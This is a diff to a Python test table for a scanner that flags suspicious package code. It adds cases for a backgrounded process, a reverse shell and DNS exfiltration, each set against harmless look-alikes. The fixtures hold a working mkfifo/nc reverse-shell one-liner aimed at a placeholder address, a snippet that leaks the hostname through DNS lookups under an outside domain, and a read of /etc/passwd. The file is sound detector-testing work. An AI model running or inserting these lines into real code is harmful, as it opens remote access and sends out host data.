@@ -91,6 +91,32 @@ CASES: list[tuple[str, dict[str, bytes], tuple[str, int | None], dict[str, bytes
      {"demo/t.py": "x = 1\nrole = 'user\u202e \u2066# admin\u2069 \u2066'\n".encode()},
      ("demo/t.py", 2),
      {"demo/t.py": "greeting = 'caf\u00e9 \u2713 \U0001F600'\n".encode()}),
+    # A shell's "&" puts a process in the background; "&&" and "2>&1" do not (bandit's own
+    # example runs "ls && cat /etc/passwd").
+    ("PSB-RF-SILENT-PROCESS",
+     {"demo/__init__.py": b"import subprocess\nsubprocess.Popen('python -m demo.agent &', shell=True)\n"},
+     ("demo/__init__.py", 2),
+     {"demo/__init__.py": b"import subprocess\n"
+                          b"subprocess.Popen('/bin/ls && cat /etc/passwd', shell=True)\n"
+                          b"subprocess.Popen('make 2>&1 | tee log', shell=True)\n"
+                          b"subprocess.Popen('make &> log', shell=True)\n"}),
+    # An interactive shell is a reverse shell when a network tool serves it; alone it is a
+    # test kernel's child (jupyter-client runs "bash -i -c 'sleep 30'").
+    ("PSB-RF-REVERSE-SHELL",
+     {"demo/r.py": b"import os\n"
+                   b"os.system('rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 192.0.2.9 4444 > /tmp/p')\n"},
+     ("demo/r.py", 2),
+     {"demo/r.py": b"import subprocess\nsubprocess.Popen(['bash', '-i', '-c', 'sleep 30'])\n"
+                   b"subprocess.run(['mkfifo', '/tmp/queue'])\n"}),
+    # A host name with data in it, resolved under someone's domain, carries the data away;
+    # the machine's own name, looked up to learn its addresses, does not.
+    ("PSB-RF-EXFIL-DNS",
+     {"demo/d.py": b"import socket\nhost = socket.gethostname()\n"
+                   b"socket.gethostbyname(host + '.stats.example.net')\n"},
+     ("demo/d.py", 3),
+     {"demo/d.py": b"import socket\nhostname = socket.gethostname()\n"
+                   b"ips = socket.gethostbyname_ex(hostname)[2]\n"
+                   b"local = socket.gethostbyname_ex(socket.gethostname() + '.local')[2]\n"}),
     ("PSB-RF-INVISIBLE-CHAR",
      {"demo/z.py": "ok = 1\nis_admin\u200b = True\n".encode()},
      ("demo/z.py", 2),
